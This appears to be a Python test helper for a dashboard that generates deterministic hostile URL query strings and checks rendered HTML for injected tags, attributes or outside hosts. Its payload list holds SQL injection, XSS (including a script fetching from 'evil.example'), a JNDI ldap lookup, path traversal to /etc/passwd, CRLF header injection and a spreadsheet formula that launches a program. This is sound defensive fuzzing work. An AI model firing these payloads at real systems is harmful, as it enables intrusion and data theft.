"""Hostile addresses, the same in every run, and the judgement of what a page made of them."""

import random
from collections.abc import Iterable, Sequence
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

from lsdash.model.pages import PAGES
from lsdash.view.url_state import KEYS

# Stands in every attack: where it is found, text from an address has come.
MARK = "zq9x"
HOST = "evil.example"
TEXTS = (
    f"'; DROP TABLE observation; -- {MARK}",
    f"{MARK}' OR '1'='1",
    f"{MARK}\" UNION (FROM read_text('/etc/passwd')) --",
    f"$districts {MARK}; ATTACH '/tmp/{MARK}.duckdb'",
    f"<script>fetch('//{HOST}/{MARK}')</script>",
    f"<img src=//{HOST}/{MARK}.png onerror=alert(1)>",
    f"</div></style><svg/onload=alert('{MARK}')>",
    f'"><a href="javascript:alert(\'{MARK}\')">x</a>',
    f"' onmouseover='alert(1)' {MARK}='",
    f"<style>@import '//{HOST}/{MARK}.css'</style>",
    f"![{MARK}](http://{HOST}/a.png)",
    f"[{MARK}](javascript:alert(1)) [b](//{HOST})",
    f"http://{HOST}/{MARK}",
    f"//{HOST}/{MARK}",
    f"javascript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f":red[{MARK}] $\\frac{{1}}{{2}}$ :material/{MARK}:",
    f"{{{{7*7}}}} {{0.__class__}} ${{jndi:ldap://{HOST}/{MARK}}} %s%n {MARK}",
    f"../../../etc/{MARK}",
    f"..\\..\\{MARK}",
    f"/etc/passwd\0{MARK}",
    f"file:///etc/{MARK}",
    f"CURRENT.{MARK}",
    f"bc2004-0123456789ab/../{MARK}",
    f"\0{MARK}\0",
    f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<script>",
    f"\x1b[31m{MARK}\x07\x08",
    f"\u202e{MARK}\u2066\u202d",
    f"{MARK}\u200b\u200d\ufeff\u2060",
    f"\ud800{MARK}\udfff",
    f"=cmd|' /C calc'!{MARK}",
    f"{MARK}\N{COMBINING ACUTE ACCENT}" * 30,
    f"{MARK}" + "9" * 500,
    f"{MARK}" + "\u1ea1" * 3000,
    f"2004..{MARK}",
    f"9999-99..0000-00{MARK}",
    f"tw:1e999,dp:NaN,nqd:--{MARK}",
    f"output.da@huu-lung.2023-13.{MARK}",
    f"production_value.total.2004.actual.{MARK}",
    f"bc2004-{MARK}",
    f"mophong-0123456789ab{MARK}",
    f"__proto__{MARK}",
    f"true{MARK}",
)
# Percent signs that encode nothing, or no text; plus signs, semicolons and empty parts where a form has none.
_RAW = (
    f"%{MARK}",
    f"%zz{MARK}%",
    f"%ff%fe{MARK}",
    f"%c0%ae%c0%ae%2f{MARK}",
    f"%ed%a0%80{MARK}",
    f"%00{MARK}%0d%0a",
    f"%2525252e{MARK}",
    f"+{MARK}+;a=b;",
    f"={MARK}==",
    f"%u003c{MARK}",
    f"%F0%9F%9A{MARK}",
)
_OTHER_KEYS = ("", "__proto__", "dv[]", "dv ", "DV", "data", "embed", "utm_source", "x" * 500, f"<b>{MARK}</b>", "\0")


def hostile(count: int) -> list[tuple[str, str]]:
    """`count` pairs of a page's path and a query string: every text under some key, every key with some texts."""
    chance = random.Random(1)  # noqa: S311 - the same in every run
    values = [*map(_quoted, TEXTS), *_RAW]
    keys = [*KEYS, *map(_quoted, _OTHER_KEYS)]
    paths = [page.path for page in PAGES]
    single = [f"{key}={values[at % len(values)]}" for at, key in enumerate(keys * 3)]
    single += [f"{keys[at % len(keys)]}={value}" for at, value in enumerate(values)]
    every = ["&".join(f"{key}={value}" for key in KEYS)[:30_000] for value in values]
    crowds = ["&".join([f"{key}={chance.choice(values)}"] * 400)[:30_000] for key in KEYS]
    crowds += ["&".join(f"{MARK}{at}={at}" for at in range(700)), "&" * 20_000, f"{MARK}" * 5000]
    made = dict.fromkeys([*single, *every, *crowds])
    while len(made) < count:
        made["&".join(f"{chance.choice(keys)}={chance.choice(values)}" for _ in range(chance.randint(2, 12)))] = None
    found = list(made)[:count]
    chance.shuffle(found)
    return [(paths[at % len(paths)], query) for at, query in enumerate(found)]


def _quoted(text: str) -> str:
    return quote(text, safe="", errors="surrogatepass")


class _Markup(HTMLParser):
    """Collects tags with the names of their attributes, and where they lead or load from."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[tuple[str, ...]] = set()
        self.places: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add((tag, *sorted(name for name, _ in attrs)))
        places = (value or "" for name, value in attrs if name in {"href", "src", "action", "data", "style"})
        self.places.update(map(_place, places))

    def handle_data(self, data: str) -> None:
        # Sound pages have styles too, for paper; none has text of an address in it.
        if self.lasttag == "style" and (MARK in data or HOST in data):
            self.tags.add(("style of an address",))

    def handle_comment(self, data: str) -> None:
        self.tags.add(("comment",))

    def handle_decl(self, decl: str) -> None:
        self.tags.add(("declaration",))


def _place(address: str) -> str:
    """Where an address leads outside the page: scheme and host; "" for one within the dashboard."""
    try:
        split = urlsplit(address)
    except ValueError:
        return "malformed"
    return f"{split.scheme}:{split.netloc}" if split.scheme or split.netloc else ""


def markup(bodies: Iterable[str]) -> tuple[set[tuple[str, ...]], set[str]]:
    """Tags (each with the names of its attributes) and hosts of the HTML of a page."""
    found = _Markup()
    for body in bodies:
        found.feed(body)
        found.close()
        found.reset()
    return found.tags, found.places


class Known:
    """What sound pages are made of; anything else on a page with a hostile address has come from the address."""

    def __init__(self, sound: Iterable[Sequence[str]]) -> None:
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.places: set[str] = set()
        for bodies in sound:
            tags, places = markup(bodies)
            self.names |= {tag for tag, *_ in tags}
            self.attributes |= {name for _, *names in tags for name in names}
            self.places |= places

    def strange(self, bodies: Sequence[str]) -> list[str]:
        """Tags, attributes and hosts of a page that no sound page has."""
        tags, places = markup(bodies)
        unknown = {f"<{tag}>" for tag, *_ in tags if tag not in self.names}
        unknown |= {f"<{tag} {name}>" for tag, *names in tags for name in names if name not in self.attributes}
        return sorted({*unknown, *(place for place in places if place not in self.places)})


# Every page as it is, and with something to be named of each kind, whose notice is markup too.
SOUND = [
    (page.path, query)
    for page in PAGES
    for query in (
        "",
        "so=production_value.dp.2003.actual&dv=huu-lung",
        "dv=x&kv=twx&kv=tw&nam=1890&xyz=1&so=output.da.2004.actua&kb=tw:5,dp:9999&tim=a&tim=b&ban=x&voi=x&lang=e&bo=y",
    )
]
